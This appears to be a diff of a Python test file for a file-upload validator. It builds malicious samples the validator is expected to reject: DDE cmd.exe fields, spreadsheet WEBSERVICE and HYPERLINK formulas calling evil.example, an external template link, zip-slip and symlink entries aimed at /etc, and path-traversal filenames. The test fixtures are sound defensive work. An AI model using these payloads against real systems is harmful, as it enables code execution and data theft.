@@ -31,7 +31,9 @@ def document_xml(body: str = "<w:p><w:r><w:t>Procès-verbal</w:t></w:r></w:p>") 
     )
 
 
-def docx(extra: dict[str, bytes | str] | None = None, body: str | None = None, rels: str | None = None) -> bytes:
+def docx(
+    extra: dict[str, bytes | str] | None = None, body: str | None = None, rels: str | None = None
+) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("[Content_Types].xml", CONTENT_TYPES)
@@ -117,14 +119,22 @@ def zip_of(entries: dict[str, bytes], *, symlink: str | None = None) -> bytes:
             z.writestr(name, data)
         if symlink:
             info = zipfile.ZipInfo(symlink)
-            info.external_attr = (0o120777 << 16)
+            info.external_attr = 0o120777 << 16
             z.writestr(info, "/etc/passwd")
     return buffer.getvalue()
 
 
+DDE_BODY = (
+    '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
+)
 EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
-PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
+PE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + b"\x00" * 48
+    + b"PE\x00\x00"
+    + b"\x00" * 200
+)
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
 HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
 
@@ -135,10 +145,16 @@ def good_files() -> list[tuple[str, bytes, str]]:
         ("Procès-verbal de réunion.pdf", pdf(), "application/pdf"),
         ("capture écran 1.png", png(), "image/png"),
         ("photo armoire.jpg", jpeg(), "image/jpeg"),
-        ("note d'étape.docx", docx(),
-         "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
-        ("inventaire matériel.xlsx", xlsx("=SUM(B1:B1)"),
-         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+        (
+            "note d'étape.docx",
+            docx(),
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        ),
+        (
+            "inventaire matériel.xlsx",
+            xlsx("=SUM(B1:B1)"),
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+        ),
         ("export comptes.csv", "nom;rôle\nÉlodie;RSSI\n".encode(), "text/csv"),
         ("compte rendu été.txt", "Réunion du comité : sauvegardes testées.\n".encode(), "text/plain"),
     ]
@@ -165,16 +181,41 @@ def bad_files() -> list[tuple[str, str, bytes, str]]:
         ("nested archive", "imbrique.docx", zip_of({"word/embeddings/inner.zip": _bare_zip()}), "imbriquée"),
         ("zip slip", "slip.docx", zip_of({"../../etc/cron.d/x": b"* * * * * root id"}), "zip-slip"),
         ("symlink entry", "lien.docx", zip_of({}, symlink="word/media/link"), "lien symbolique"),
-        ("docx attached template", "modele.docx", docx(
-            extra={"word/_rels/settings.xml.rels": (
-                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-                'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
-                "</Relationships>")}), "contenu externe"),
-        ("xlsx webservice", "calc.xlsx", xlsx('=WEBSERVICE("http://evil.example/?"&B1)'), "appelle l'extérieur"),
-        ("xlsx hyperlink formula", "calc.xlsx", xlsx('=HYPERLINK("http://evil.example","x")'), "appelle l'extérieur"),
+        (
+            "docx attached template",
+            "modele.docx",
+            docx(
+                extra={
+                    "word/_rels/settings.xml.rels": (
+                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+                        'TargetMode="External"/>'
+                        "</Relationships>"
+                    )
+                }
+            ),
+            "contenu externe",
+        ),
+        (
+            "xlsx webservice",
+            "calc.xlsx",
+            xlsx('=WEBSERVICE("http://evil.example/?"&B1)'),
+            "appelle l'extérieur",
+        ),
+        (
+            "xlsx hyperlink formula",
+            "calc.xlsx",
+            xlsx('=HYPERLINK("http://evil.example","x")'),
+            "appelle l'extérieur",
+        ),
         ("xlsx dde", "calc.xlsx", xlsx("=cmd|' /C calc'!A0"), "appelle l'extérieur"),
-        ("docx dde field", "dde.docx", docx(body='<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'), "appelle l'extérieur"),
+        (
+            "docx dde field",
+            "dde.docx",
+            docx(body=DDE_BODY),
+            "appelle l'extérieur",
+        ),
         ("path in name", "../../etc/passwd.txt", b"bonjour\n", "chemin"),
         ("backslash in name", "dossier\\\\note.txt", b"bonjour\n", "chemin"),
         ("nul in name", "note\x00.txt", b"bonjour\n", "nul"),
